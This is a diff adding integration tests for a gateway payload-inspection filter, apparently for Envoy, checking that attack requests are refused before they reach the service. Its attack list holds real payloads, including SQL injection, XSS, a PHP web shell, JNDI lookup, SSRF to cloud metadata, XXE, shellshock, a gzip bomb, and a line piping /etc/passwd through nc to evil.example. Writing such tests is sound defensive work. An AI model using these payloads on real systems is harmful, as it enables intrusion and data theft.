@@ -1,0 +1,302 @@
+//! Payload rules in the real Envoy: every place where an attack can stand, every way in which a body can come, and that the service
+//! sees nothing of what is refused.
+#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "a test that cannot go on has failed")]
+
+use std::thread;
+use std::time::Duration;
+
+use portcullis_tests::client::{Call, Client, Response, call_h2};
+use portcullis_tests::gateway::Gateway;
+use portcullis_tests::idp::Idp;
+use portcullis_tests::introspection::{Client as Caller, Introspector};
+use portcullis_tests::services::Service;
+use portcullis_tests::{eventually, refusal};
+use serde_json::json;
+
+const SCRIPT: &str = "<script>alert(document.cookie)</script>";
+/// How long the provider takes for its word about a caller.
+const ASKED: Duration = Duration::from_millis(250);
+
+struct World {
+    gateway: Gateway,
+    service: Service,
+    introspector: Introspector,
+    _idp: Idp,
+}
+
+impl World {
+    fn start() -> Self {
+        let idp = Idp::plain(&json!({"keys": []})).unwrap();
+        let introspector = Introspector::at(&idp, "/introspect", Caller::Post("gw".to_owned(), "s3cret".to_owned()));
+        introspector.endpoint().set_delay(ASKED);
+        introspector.activate("good", json!({"sub": "alice"}));
+        let service = Service::plain("api").unwrap();
+        let gateway = Gateway::builder()
+            .filter(json!({
+                "version": 1,
+                "providers": {"partner": {"introspection": {
+                    "cluster": "idp", "path": "/introspect", "client_id": "gw",
+                    "client_secret": {"inline": "s3cret"}, "client_authentication": "post",
+                }}},
+                "defaults": {"payload": {"max_body": "32KiB", "max_inflated": "64KiB"}},
+                "rules": [
+                    {"name": "held", "match": {"prefix": "/api/held"}, "require": "partner"},
+                    {"name": "watched", "match": {"prefix": "/api/watched"}, "allow": "public", "payload": {"mode": "monitor"}},
+                    {"name": "start", "match": {"prefix": "/api/start"}, "allow": "public",
+                     "payload": {"max_body": "1KiB", "on_over": "scan_prefix"}},
+                    {"name": "except", "match": {"prefix": "/api/except"}, "allow": "public",
+                     "payload": {"except": [{"parameter": "html", "families": ["xss"]}]}},
+                    {"name": "all", "match": {}, "allow": "public"},
+                ],
+            }))
+            .idp(&idp)
+            .service(&service)
+            .connection_manager("http_protocol_options", json!({"enable_trailers": true}))
+            .connection_manager("upgrade_configs", json!([{"upgrade_type": "websocket"}]))
+            .start()
+            .unwrap();
+        Self { gateway, service, introspector, _idp: idp }
+    }
+
+    fn connect(&self) -> Client {
+        Client::connect(self.gateway.port()).unwrap()
+    }
+
+    fn call(&self, call: &Call) -> Response {
+        self.connect().call(call).unwrap()
+    }
+
+    fn seen(&self) -> usize {
+        self.service.requests().len()
+    }
+
+    /// The call is refused, and the service never hears of it.
+    fn refuses(&self, call: &Call, what: &str) {
+        let before = self.seen();
+        let response = self.call(call);
+        refusal::check(&response, 403, "payload_attack").unwrap_or_else(|error| panic!("{what}: {error}"));
+        assert_eq!(self.seen(), before, "{what}: the service saw it");
+    }
+}
+
+fn json_body(body: &str) -> Call {
+    Call::new("POST", "/api").header("content-type", "application/json").body(body)
+}
+
+fn escaped(value: &str) -> String {
+    value.bytes().map(|b| format!("%{b:02X}")).collect()
+}
+
+#[test]
+fn an_attack_is_refused_wherever_it_stands() {
+    let world = World::start();
+    let attacks = [
+        ("sqli", "1' UNION SELECT name, password FROM users-- "),
+        ("xss", SCRIPT),
+        ("traversal", "../../../../etc/passwd"),
+        ("command", "; cat /etc/passwd | nc evil.example 4444"),
+        ("lookup", "${jndi:ldap://evil.example/a}"),
+        ("ssrf", "http://169.254.169.254/latest/meta-data/iam/"),
+        ("template", "{{7*7}}{{config.__class__.__init__.__globals__}}"),
+        ("php", "<?php system($_GET['c']); ?>"),
+    ];
+    for (family, attack) in attacks {
+        world.refuses(&Call::get(&format!("/api?q={}", escaped(attack))), &format!("{family} in the query"));
+        let form = Call::new("POST", "/api").header("content-type", "application/x-www-form-urlencoded");
+        world.refuses(&form.body(format!("a=1&q={}", escaped(attack))), &format!("{family} in a form"));
+        world.refuses(&json_body(&json!({"id": 7, "deep": [{"q": attack}]}).to_string()), &format!("{family} in JSON"));
+        let part = format!("--b\r\ncontent-disposition: form-data; name=\"q\"\r\n\r\n{attack}\r\n--b--\r\n");
+        let multipart = Call::new("POST", "/api").header("content-type", "multipart/form-data; boundary=b").body(part);
+        world.refuses(&multipart, &format!("{family} in multipart"));
+        world.refuses(&Call::get("/api").header("x-custom", attack), &format!("{family} in a header"));
+    }
+    world.refuses(&Call::get("/api").header("cookie", "id=1' union select password from users--"), "a cookie");
+    world.refuses(&Call::get("/api").header("user-agent", "() { :; }; /bin/bash -c id"), "shellshock");
+    let entity = "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
+    world.refuses(&Call::new("POST", "/api").header("content-type", "text/xml").body(entity), "an entity");
+    world.gateway.check_unharmed().unwrap();
+}
+
+#[test]
+fn ordinary_requests_arrive_whole() {
+    let world = World::start();
+    let text = json!({"text": "Don't drop the table; use ORDER BY -- it's faster & <b>bold</b>", "n": [1, 2.5, null]});
+    let body = text.to_string();
+    let answer = world.call(&json_body(&body));
+    assert_eq!(answer.status, 200, "{}", answer.text());
+    assert_eq!(world.service.requests().last().unwrap().body, body.as_bytes());
+    let long = format!("{{\"pad\": \"{}\"}}", "lorem ipsum ".repeat(2000));
+    assert_eq!(world.call(&json_body(&long)).status, 200);
+    assert_eq!(world.service.requests().last().unwrap().body.len(), long.len());
+    assert_eq!(world.call(&Call::get("/api?q=O%27Brien%20%26%20Sons&page=2")).status, 200);
+    assert_eq!(world.call(&Call::new("POST", "/api").body("")).status, 200);
+    world.gateway.check_unharmed().unwrap();
+}
+
+/// Sends a body as chunks, each by itself, and `end` behind them.
+fn in_chunks<'a>(world: &World, call: Call, chunks: impl IntoIterator<Item = &'a [u8]>, end: &[u8]) -> Response {
+    let mut client = world.connect();
+    client.send(&call.header("transfer-encoding", "chunked").to_bytes()).unwrap();
+    for chunk in chunks {
+        let framed = [format!("{:x}\r\n", chunk.len()).as_bytes(), chunk, b"\r\n"].concat();
+        if client.send(&framed).is_err() {
+            break;
+        }
+        thread::sleep(Duration::from_millis(2));
+    }
+    let _ = client.send(end);
+    client.read(false).unwrap()
+}
+
+#[test]
+fn however_a_body_is_cut_it_is_judged_whole() {
+    let world = World::start();
+    let body = json!({"id": 7, "q": SCRIPT}).to_string();
+    let before = world.seen();
+    for at in 1..body.len() {
+        let (first, second) = body.as_bytes().split_at(at);
+        let call = Call::new("POST", "/api").header("content-type", "application/json");
+        let response = in_chunks(&world, call, [first, second], b"0\r\n\r\n");
+        refusal::check(&response, 403, "payload_attack").unwrap_or_else(|error| panic!("cut at {at}: {error}"));
+    }
+    let call = || Call::new("POST", "/api").header("content-type", "application/json");
+    let response = in_chunks(&world, call(), body.as_bytes().chunks(1), b"0\r\n\r\n");
+    refusal::check(&response, 403, "payload_attack").unwrap();
+    let response = in_chunks(&world, call(), [body.as_bytes()], b"0\r\nx-checksum: 1\r\n\r\n");
+    refusal::check(&response, 403, "payload_attack").unwrap();
+    assert_eq!(world.seen(), before, "no head went ahead of its body");
+    let good = json!({"id": 7, "q": "fine"}).to_string();
+    assert_eq!(in_chunks(&world, call(), good.as_bytes().chunks(3), b"0\r\nx-checksum: 1\r\n\r\n").status, 200);
+    assert_eq!(world.service.requests().last().unwrap().body, good.as_bytes());
+    world.gateway.check_unharmed().unwrap();
+}
+
+#[test]
+fn over_http_2_too() {
+    let world = World::start();
+    let send = |call: &Call| call_h2(world.gateway.port(), None, call).unwrap();
+    let before = world.seen();
+    refusal::check(&send(&json_body(&json!({"q": SCRIPT}).to_string())), 403, "payload_attack").unwrap();
+    refusal::check(&send(&Call::get(&format!("/api?q={}", escaped(SCRIPT)))), 403, "payload_attack").unwrap();
+    assert_eq!(world.seen(), before);
+    assert_eq!(send(&json_body("{\"q\": 1}")).status, 200);
+    world.gateway.check_unharmed().unwrap();
+}
+
+#[test]
+fn a_request_that_is_held_for_its_caller_is_judged_after_it() {
+    let world = World::start();
+    let call = |token: &str, body: &str| {
+        let call = Call::new("POST", "/api/held").bearer(token).header("content-type", "application/json");
+        call.body(body)
+    };
+    for number in 0..4 {
+        let token = format!("good-{number}");
+        world.introspector.activate(&token, json!({"sub": "alice"}));
+        world.refuses(&call(&token, &json!({"q": SCRIPT}).to_string()), "a body that came before the verdict");
+    }
+    // The body comes after the provider's word.
+    world.introspector.activate("late", json!({"sub": "alice"}));
+    let bytes = call("late", &json!({"q": SCRIPT}).to_string()).to_bytes();
+    let (first, second) = bytes.split_at(bytes.len() - 20);
+    let before = world.seen();
+    let mut client = world.connect();
+    client.send(first).unwrap();
+    thread::sleep(ASKED * 2);
+    refusal::check(&client.raw(second).unwrap(), 403, "payload_attack").unwrap();
+    assert_eq!(world.seen(), before);
+    refusal::check(&world.call(&call("unknown", "{}")), 401, "token_inactive").unwrap();
+    world.introspector.activate("fine", json!({"sub": "alice"}));
+    assert_eq!(world.call(&call("fine", "{\"q\": 1}")).status, 200);
+    assert_eq!(world.service.requests().last().unwrap().body, &b"{\"q\": 1}"[..]);
+    world.gateway.check_unharmed().unwrap();
+}
+
+fn gzip(data: &[u8]) -> Vec<u8> {
+    let mut body = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
+    body.extend(miniz_oxide::deflate::compress_to_vec(data, 6));
+    // Nobody checks the checksum before the service does.
+    body.extend([0; 8]);
+    body
+}
+
+#[test]
+fn a_compressed_body_is_judged_by_what_it_holds() {
+    let world = World::start();
+    let call = |coding: &str, body: Vec<u8>| {
+        let call = Call::new("POST", "/api").header("content-type", "application/json");
+        call.header("content-encoding", coding).body(body)
+    };
+    let attack = json!({"q": SCRIPT}).to_string();
+    world.refuses(&call("gzip", gzip(attack.as_bytes())), "gzip");
+    let deflated = miniz_oxide::deflate::compress_to_vec_zlib(attack.as_bytes(), 6);
+    world.refuses(&call("deflate", deflated), "deflate");
+    refusal::check(&world.call(&call("br", b"x".to_vec())), 415, "body_encoding_refused").unwrap();
+    refusal::check(&world.call(&call("gzip", b"plain".to_vec())), 400, "body_malformed").unwrap();
+    let bomb = gzip(&vec![b' '; 8 << 20]);
+    assert!(bomb.len() < 32 << 10);
+    refusal::check(&world.call(&call("gzip", bomb)), 413, "body_too_large").unwrap();
+    let good = gzip(b"{\"q\": 1}");
+    assert_eq!(world.call(&call("gzip", good.clone())).status, 200);
+    assert_eq!(world.service.requests().last().unwrap().body, good, "the service gets it as it was sent");
+    world.gateway.check_unharmed().unwrap();
+}
+
+#[test]
+fn a_body_that_is_too_long_is_refused_or_judged_by_its_beginning() {
+    let world = World::start();
+    let long = format!("{{\"pad\": \"{}\"}}", "x".repeat(40_000));
+    refusal::check(&world.call(&json_body(&long)), 413, "body_too_large").unwrap();
+    let call = || Call::new("POST", "/api").header("content-type", "application/json");
+    refusal::check(&in_chunks(&world, call(), long.as_bytes().chunks(8192), b"0\r\n\r\n"), 413, "body_too_large")
+        .unwrap();
+    let start = |body: &str| {
+        let call = Call::new("POST", "/api/start").header("content-type", "application/json").body(body);
+        world.call(&call)
+    };
+    assert_eq!(start(&long).status, 200);
+    assert_eq!(world.service.requests().last().unwrap().body.len(), long.len(), "what is not read goes on whole");
+    refusal::check(&start(&format!("{{\"q\": \"{SCRIPT}\", \"pad\": \"{long:?}\"}}")), 403, "payload_attack").unwrap();
+    world.gateway.check_unharmed().unwrap();
+}
+
+#[test]
+fn in_monitor_mode_everything_passes_and_the_log_has_the_exception() {
+    let world = World::start();
+    let call = Call::new("POST", "/api/watched").header("content-type", "application/json");
+    let response = world.call(&call.body(json!({"html": SCRIPT}).to_string()));
+    assert_eq!(response.status, 200);
+    let event = world.gateway.audit_of(response.header("x-request-id").unwrap()).unwrap();
+    assert_eq!(
+        (&event["event.action"], &event["event.reason"]),
+        (&json!("request_monitored"), &json!("payload_attack"))
+    );
+    let message = event["message"].as_str().unwrap();
+    assert!(message.contains(r#"except: [{parameter: "html", families: [xss]}]"#), "{message}");
+    assert!(!message.contains("document.cookie"), "{message}");
+    let watched = || world.gateway.counter("portcullis_payload", &[("rule", "watched")]).unwrap();
+    assert!(eventually(Duration::from_secs(5), || watched() > 0));
+    // With that exception, it passes where it is refused otherwise.
+    let except = Call::new("POST", "/api/except").header("content-type", "application/json");
+    assert_eq!(world.call(&except.body(json!({"html": SCRIPT}).to_string())).status, 200);
+    let other = Call::new("POST", "/api/except").header("content-type", "application/json");
+    world.refuses(&other.body(json!({"other": SCRIPT}).to_string()), "another parameter");
+}
+
+#[test]
+fn streams_are_not_waited_for() {
+    let world = World::start();
+    // The service answers the head of a gRPC call whose body never ends.
+    let mut client = world.connect();
+    let call =
+        Call::new("POST", "/api").header("content-type", "application/grpc").header("transfer-encoding", "chunked");
+    client.send(&call.to_bytes()).unwrap();
+    client.send(b"5\r\n\0\0\0\0\0\r\n").unwrap();
+    assert!(eventually(Duration::from_secs(5), || world.gateway.stat("cluster.api.upstream_rq_total").unwrap() == 1));
+    // A client that leaves in the middle of a body that is waited for leaves nothing behind.
+    let mut client = world.connect();
+    client.send(&json_body("{}").header("transfer-encoding", "chunked").to_bytes()).unwrap();
+    drop(client);
+    assert_eq!(world.call(&json_body("{}")).status, 200);
+    world.gateway.check_unharmed().unwrap();
+}
